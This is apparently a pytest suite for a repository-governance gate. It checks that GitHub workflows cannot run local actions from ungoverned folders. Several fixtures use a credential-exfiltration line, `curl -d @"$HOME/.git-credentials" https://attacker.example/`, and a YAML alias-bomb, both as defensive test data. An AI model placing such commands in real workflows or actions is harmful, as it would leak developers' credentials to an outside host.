"""A governed workflow may run only governed code that GitHub resolves for it: `uses: ./tools/deploy` runs
tools/deploy/action.yml and its script, so unless that folder is governed a pull request changing only
tools/deploy/ changes what the approved workflow runs, and no body decides. The check, the audit and
the hook refuse a workflow (or an action under .github/) that names a local action whose whole folder
is not governed, as the site build refuses an ungoverned INHERIT or hook of mkdocs.yml."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from governance.cli import main
from governance.config import build_config
from governance.errors import GovernanceError
from governance.gate.audit import run_audit
from governance.gate.check import run_check
from governance.gate.local_actions import governed_folder, local_uses
from governance.i18n import reset_language
from governance.strict_yaml import load
from tests.gate.test_hook import _push, with_server
from tests.testing.gitrepo import GitRepo
from tests.testing.governed import Governed, digest, record_text
from tests.testing.sshkeys import Keys

TODAY_ENV = {"GOVERNANCE_TODAY": "2026-12-01"}
WORKFLOW = ".github/workflows/deploy.yml"
TODAY = date(2026, 12, 1)


def _workflow(action: str) -> str:
    return f"""name: deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - name: Deploy
        uses: {action}
"""


ACTION = """name: deploy
runs:
  using: composite
  steps:
    - run: echo deploying
      shell: bash
"""
STEALS = ACTION.replace("echo deploying", 'curl -d @"$HOME/.git-credentials" https://attacker.example/')


def _init(repo: GitRepo, keys: Keys) -> None:
    """`governance init` of the repository (3 board members), as an administrator runs it."""
    init = CliRunner().invoke(
        main,
        [
            *("init", "--key", str(keys.secretary.private), "--identity", keys.secretary.identity),
            *("--members", "3", "--root", str(repo.path)),
        ],
        env=TODAY_ENV,
    )
    assert init.exit_code == 0, init.output


@pytest.fixture
def adopted(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
    """A repository adopted by `governance init` (3 board members), the adoption committed."""
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.commit("Regulations")
    _init(repo, keys)
    repo.commit("Adopt regulation governance")
    return Governed(repo, keys)


def _propose(
    gov: Governed,
    name: str,
    ident: str,
    files: dict[str, str],
    approve: tuple[str, ...],
    amend: tuple[str, ...] = (),
) -> None:
    """A pull request writing `files`, the board's signed written consent enacting those in `approve` and
    amending those in `amend`."""
    gov.branch(name)
    for path, text in files.items():
        gov.repo.write(path, text)
    decisions = [(f"file:{path}", "enact", digest(files[path])) for path in approve]
    decisions += [(f"file:{path}", "amend", digest(files[path])) for path in amend]
    text = record_text(ident, decisions, consents=3, date="2026-11-30")
    gov.record(ident, text.replace("\n", "\nrepository: policies\n", 1))  # init binds records to it
    gov.repo.commit(f"Add {', '.join(files)}")


def _changed(path: str, uses: str = "./tools/deploy", line: int = 13) -> str:
    folder = uses.removeprefix("./")
    return (
        f"{path}: it is part of the local action {uses} that {WORKFLOW}:{line} runs, and its folder {folder} "
        "is not governed, so this change alters what the workflow runs without a decision; move the action "
        f"under .github/actions/, or add a pattern that covers its whole folder ({folder}/*) to governed_paths "
        "in governance.yml, each with its resolution"
    )


def _check(gov: Governed, head: str) -> tuple[int, str]:
    done = CliRunner().invoke(
        main, ["check", "--root", str(gov.path), "--base", "main", "--head", head], env=TODAY_ENV
    )
    return done.exit_code, done.output


def test_a_workflow_running_an_action_outside_github_is_refused_by_the_check(adopted: Governed) -> None:
    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
    _propose(adopted, "outside", "BD-2026-101", files, approve=(WORKFLOW,))

    code, output = _check(adopted, "outside")
    report = run_check(adopted.path, "main", "outside", today=TODAY)

    assert code == 1, output
    assert all(v.covered for v in report.verdicts)  # the workflow itself is approved: only this refuses
    assert [str(v) for v in report.violations] == [
        f"{WORKFLOW}:13: it runs the local action ./tools/deploy, whose folder tools/deploy is not governed, "
        "so a pull request could change what the workflow runs without a decision; move the action under "
        ".github/actions/, or add a pattern that covers its whole folder (tools/deploy/*) to governed_paths "
        "in governance.yml"
    ]
    assert "tools/deploy" in output and f"{WORKFLOW}:13" in output


def test_the_same_action_under_github_actions_is_accepted(adopted: Governed) -> None:
    action = ".github/actions/deploy/action.yml"
    files = {WORKFLOW: _workflow("./.github/actions/deploy"), action: ACTION}
    _propose(adopted, "inside", "BD-2026-102", files, approve=(WORKFLOW, action))

    code, output = _check(adopted, "inside")

    assert code == 0, output


def test_changing_only_the_ungoverned_action_of_an_approved_workflow_is_refused(adopted: Governed) -> None:
    """The attack: main already runs ./tools/deploy (say from before this rule); a pull request that
    touches no governed file rewrites what the workflow runs. The check refuses it; the audit refuses the
    commit that made the workflow run it, and the commit that changes the action, which changes no
    governed file (the fast path that judges such a commit no further asks about local actions first)."""
    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
    _propose(adopted, "outside", "BD-2026-103", files, approve=(WORKFLOW,))
    adopted.merge("outside")
    adopted.branch("faster")
    adopted.repo.write("tools/deploy/action.yml", STEALS)
    adopted.repo.commit("Speed up the deploy step")

    code, output = _check(adopted, "faster")
    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)

    assert code == 1, output
    assert "./tools/deploy" in output
    assert [c.subject for c in audit.bad_commits] == ["Merge outside", "Speed up the deploy step"]
    assert audit.bad_commits[1].violations == [_changed("tools/deploy/action.yml")]


def test_a_composite_action_under_github_may_not_run_an_ungoverned_one(adopted: Governed) -> None:
    outer = ".github/actions/release/action.yml"
    composite = ACTION.replace(
        "    - run: echo deploying\n      shell: bash\n", "    - uses: ./scripts/inner\n"
    )
    files = {outer: composite, "scripts/inner/action.yml": ACTION}
    _propose(adopted, "nested", "BD-2026-104", files, approve=(outer,))

    report = run_check(adopted.path, "main", "nested", today=TODAY)

    assert [str(v).partition(" whose")[0] for v in report.violations] == [
        f"{outer}:5: it runs the local action ./scripts/inner,"
    ]


def test_a_workflow_that_cannot_be_read_is_a_finding_not_a_crash(adopted: Governed) -> None:
    broken = "jobs:\n  x:\n    steps: [\n"
    _propose(adopted, "broken", "BD-2026-105", {WORKFLOW: broken}, approve=(WORKFLOW,))

    code, output = _check(adopted, "broken")

    assert code == 1, output
    assert f"{WORKFLOW}: it cannot be read, so the gate cannot tell which local actions it runs" in output


def test_an_ungoverned_action_folder_is_refused_in_japanese(
    adopted: Governed, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
    _propose(adopted, "outside", "BD-2026-106", files, approve=(WORKFLOW,))
    monkeypatch.setenv("LANG", "ja_JP.UTF-8")
    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES"):
        monkeypatch.delenv(name, raising=False)
    reset_language()
    try:
        code, output = _check(adopted, "outside")
    finally:
        monkeypatch.undo()
        reset_language()

    assert code == 1, output
    assert (
        f"{WORKFLOW}:13: ローカルアクション ./tools/deploy を実行しますが、そのフォルダ tools/deploy は管理対象では"
        "ないため" in output
    ), output


def test_a_folder_is_governed_only_when_governed_paths_covers_all_of_it() -> None:
    assert governed_folder(".github/actions/deploy", build_config({}))
    assert not governed_folder("tools/deploy", build_config({}))
    assert governed_folder("tools/deploy", build_config({"governed_paths": ["tools/deploy/*"]}))
    assert governed_folder("tools/deploy", build_config({"governed_paths": ["tools/*"]}))
    # Only its definition: the script it runs would be free.
    assert not governed_folder("tools/deploy", build_config({"governed_paths": ["tools/deploy/*.yml"]}))
    assert not governed_folder("..", build_config({"governed_paths": ["*"]}))  # outside the repository
    assert not governed_folder("../x", build_config({"governed_paths": ["*"]}))


def test_every_uses_of_a_local_action_is_found_with_its_line() -> None:
    text = """jobs:
  call:
    uses: ./.github/workflows/reusable.yml
  build:
    steps:
      - uses: actions/checkout@v5
      - uses: ./tools/a
      - uses: "./.github/../tools/b"
      - run: ./scripts/not-judged.sh
"""
    found = local_uses(load(text, "w.yml"), "w.yml")

    assert [(u.line, u.uses, u.folder) for u in found] == [
        (3, "./.github/workflows/reusable.yml", ".github/workflows/reusable.yml"),
        (7, "./tools/a", "tools/a"),
        (8, "./.github/../tools/b", "tools/b"),
    ]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("uses: ./-[]{}\n'\"&*!#ab")), max_size=200))
def test_reading_uses_never_fails_on_what_the_strict_reader_accepts(text: str) -> None:
    for aliases in (False, True):
        try:
            document = load(text, "w.yml", aliases=aliases)
        except GovernanceError:
            continue  # refused with its line: a finding of the gate, never a crash
        assert all(use.uses.startswith("./") for use in local_uses(document, "w.yml"))


def test_the_audit_refuses_an_adoption_whose_workflow_runs_an_ungoverned_action(
    tmp_path: Path, keys: Keys, seed_text: str
) -> None:
    repo = GitRepo.init(tmp_path / "policies")
    repo.write("regulations/bribery-prevention.md", seed_text)
    repo.write(WORKFLOW, _workflow("./tools/deploy"))
    repo.write("tools/deploy/action.yml", ACTION)
    repo.commit("Regulations and the deploy workflow")
    _init(repo, keys)
    adoption = repo.commit("Adopt regulation governance")

    report = run_audit(repo.path, "HEAD", today=TODAY, works=False)

    assert [c.commit for c in report.bad_commits] == [adoption]
    assert [v.partition(" whose")[0] for v in report.bad_commits[0].violations] == [
        f"{WORKFLOW}:13: it runs the local action ./tools/deploy,"
    ]


def test_the_audit_judges_each_commit_by_the_workflows_at_that_commit(adopted: Governed) -> None:
    """The audit reads .github at a commit whose diff leaves it alone as its parent's: a later commit
    still runs the ungoverned action its parent's workflow runs, and none after the workflow changed."""
    inside = ".github/actions/deploy/action.yml"
    steps: list[tuple[str, dict[str, str], tuple[str, ...], tuple[str, ...]]] = [
        (
            "outside",
            {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION},
            (WORKFLOW,),
            (),
        ),
        ("owners", {"CODEOWNERS": "* @board\n"}, ("CODEOWNERS",), ()),
        ("inside", {WORKFLOW: _workflow("./.github/actions/deploy"), inside: ACTION}, (inside,), (WORKFLOW,)),
        ("owners-again", {"CODEOWNERS": "* @secretary\n"}, (), ("CODEOWNERS",)),
    ]
    for number, (name, files, enacted, amended) in enumerate(steps, start=110):
        _propose(adopted, name, f"BD-2026-{number}", files, approve=enacted, amend=amended)
        adopted.merge(name)

    report = run_audit(adopted.path, "main", today=TODAY, works=False)

    assert [c.subject for c in report.bad_commits] == ["Merge outside", "Merge owners"]
    assert all(v.covered for c in report.commits for v in c.verdicts)


def test_the_audit_follows_which_folders_the_workflows_run_along_the_history(adopted: Governed) -> None:
    """The workflows are read again where .github/ changes, and only there: a change to a folder no
    workflow runs passes, and one to the folder a workflow runs from then on is refused."""
    files = {WORKFLOW: _workflow("./tools/a"), "tools/a/action.yml": ACTION, "tools/b/action.yml": ACTION}
    _propose(adopted, "a", "BD-2026-107", files, approve=(WORKFLOW,))
    adopted.merge("a")
    adopted.repo.write("tools/b/action.yml", STEALS)
    adopted.repo.commit("Change b, which nothing runs")
    adopted.repo.write("tools/a/action.yml", STEALS)
    adopted.repo.write("README.md", "Deploy tools\n")
    adopted.repo.commit("Change a, which the workflow runs")
    _propose(adopted, "b", "BD-2026-108", {WORKFLOW: _workflow("./tools/b")}, approve=(WORKFLOW,))
    adopted.merge("b")
    adopted.repo.write("tools/a/action.yml", ACTION)
    adopted.repo.commit("Change a, which nothing runs any more")
    adopted.repo.write("Tools/B/run.sh", "curl https://attacker.example/\n")  # one folder on Windows
    adopted.repo.commit("Add a script to b, which the workflow runs")

    audit = run_audit(adopted.path, "main", today=TODAY, works=False)

    assert [c.subject for c in audit.bad_commits] == [
        "Merge a",
        "Change a, which the workflow runs",
        "Merge b",
        "Add a script to b, which the workflow runs",
    ]
    assert audit.bad_commits[1].violations == [_changed("tools/a/action.yml", "./tools/a")]
    assert audit.bad_commits[3].violations == [_changed("Tools/B/run.sh", "./tools/b")]


def test_a_symbolic_link_in_place_of_the_folder_is_a_change_of_the_action(adopted: Governed) -> None:
    """The runner reads ./tools/deploy/action.yml through a link at tools (or at tools/deploy): a commit
    that adds one changes what the workflow runs, though no file in the folder's path changes."""
    files = {WORKFLOW: _workflow("./tools/deploy")}  # the folder not there yet: the job fails until it is
    _propose(adopted, "outside", "BD-2026-114", files, approve=(WORKFLOW,))
    adopted.merge("outside")
    adopted.repo.write("vendor/deploy/action.yml", STEALS)
    (adopted.path / "tools").symlink_to("vendor")
    adopted.repo.commit("Vendor the deploy tools")

    audit = run_audit(adopted.path, "main", today=TODAY, works=False)

    assert [c.subject for c in audit.bad_commits] == ["Merge outside", "Vendor the deploy tools"]
    assert audit.bad_commits[1].violations == [
        f"tools: a symbolic link on the path of the local action ./tools/deploy that {WORKFLOW}:13 runs: the "
        "runner follows it, to files no decision covers; put the folder itself there, not a link, or name the "
        "folder the link points to in the workflow"
    ]


def test_an_unreadable_workflow_refuses_a_commit_that_changes_no_governed_file(adopted: Governed) -> None:
    """Which folders it runs is unknown, so any change may be to one of them: the check says so of every
    pull request, and the audit of a commit it does not judge otherwise."""
    broken = "jobs:\n  x:\n    steps: [\n"
    _propose(adopted, "broken", "BD-2026-109", {WORKFLOW: broken}, approve=(WORKFLOW,))
    adopted.merge("broken")
    adopted.repo.write("README.md", "Anything\n")
    adopted.repo.commit("Change the README")

    audit = run_audit(adopted.path, "main", today=TODAY, works=False)

    assert [c.subject for c in audit.bad_commits] == ["Merge broken", "Change the README"]
    assert [v.partition(":")[0] for v in audit.bad_commits[1].violations] == [WORKFLOW]
    assert (
        "it cannot be read, so the gate cannot tell which local actions it runs"
        in (audit.bad_commits[1].violations[0])
    )


def test_the_hook_refuses_a_push_that_changes_only_the_action_an_approved_workflow_runs(
    adopted: Governed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real push into a bare repository with the hook: its main already ran ./tools/deploy when the hook
    was installed (a repository adopted before the rule), and a push changing only tools/deploy/ touches
    no governed file. The hook judged it no further and let it in; the pull request's check refused it."""
    files = {WORKFLOW: _workflow("./tools/deploy"), "tools/deploy/action.yml": ACTION}
    _propose(adopted, "outside", "BD-2026-110", files, approve=(WORKFLOW,))
    adopted.merge("outside")
    with_server(adopted, tmp_path / "server.git")
    monkeypatch.setenv("GOVERNANCE_TODAY", "2026-12-01")
    adopted.repo.write("README.md", "Our policies\n")
    adopted.repo.commit("Say what this repository is")
    unrelated = _push(adopted, "main")
    adopted.repo.write("docs/notes.md", "Notes\n")
    adopted.repo.commit("Notes")
    adopted.repo.write("tools/deploy/action.yml", STEALS)
    steals = adopted.repo.commit("Speed up the deploy step")

    refused = _push(adopted, "main")

    assert unrelated.returncode == 0, unrelated.stderr
    assert refused.returncode != 0, refused.stderr
    assert (
        f"refs/heads/main: commit {steals[:12]} (Speed up the deploy step): "
        f"{_changed('tools/deploy/action.yml')}" in " ".join(refused.stderr.split())
    ), refused.stderr
    assert "(Notes)" not in refused.stderr


ANCHORED = """name: deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
env:
  ACTION: &action {action}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps: &steps
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - uses: *action
  deploy:
    runs-on: ubuntu-24.04
    needs: build
    steps: *steps
"""


def test_a_workflow_with_anchors_is_read_as_github_reads_it(adopted: Governed) -> None:
    """GitHub reads anchors and aliases in workflows (since September 2025): the gate reads each alias as
    its anchor's value instead of refusing the file, and so sees every local action it runs."""
    action = ".github/actions/deploy/action.yml"
    inside = ANCHORED.format(action="./.github/actions/deploy")
    _propose(adopted, "inside", "BD-2026-111", {WORKFLOW: inside, action: ACTION}, approve=(WORKFLOW, action))
    code, output = _check(adopted, "inside")
    adopted.repo.git("checkout", "-q", "main")
    outside = ANCHORED.format(action="./tools/deploy")
    files = {WORKFLOW: outside, "tools/deploy/action.yml": ACTION}
    _propose(adopted, "outside", "BD-2026-112", files, approve=(WORKFLOW,))

    report = run_check(adopted.path, "main", "outside", today=TODAY)

    assert code == 0, output
    # The alias in the first job's steps, and again where the second job repeats them (`steps: *steps`).
    assert [str(v).partition(" whose")[0] for v in report.violations] == [
        f"{WORKFLOW}:14: it runs the local action ./tools/deploy,",
        f"{WORKFLOW}:18: it runs the local action ./tools/deploy,",
    ]


def test_a_workflow_whose_aliases_would_explode_is_a_finding(adopted: Governed) -> None:
    rows = ["l0: &l0 [x, x, x, x, x, x, x, x, x, x]"]
    rows += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 9)]
    laughs = "\n".join(["on: push", *rows, "jobs: {}"]) + "\n"
    _propose(adopted, "laughs", "BD-2026-113", {WORKFLOW: laughs}, approve=(WORKFLOW,))

    code, output = _check(adopted, "laughs")

    assert code == 1, output
    assert f"{WORKFLOW}: it cannot be read, so the gate cannot tell which local actions it runs" in output
    assert "more than 100,000 values" in output
